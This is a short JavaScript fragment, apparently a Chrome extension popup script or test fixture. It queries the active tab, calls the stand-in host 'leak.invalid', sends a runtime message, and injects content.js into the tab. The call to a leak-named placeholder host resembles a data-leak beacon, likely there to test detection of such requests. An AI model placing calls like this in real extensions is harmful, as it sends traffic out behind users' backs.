const [tab] = await chrome.tabs.query({ active: true, currentWindow: true });
await fetch('http://leak.invalid/popup').catch(() => {});
await chrome.runtime.sendMessage({});
await chrome.scripting.executeScript({ target: { tabId: tab.id }, files: ['content.js'] });
document.body.append('all asked');
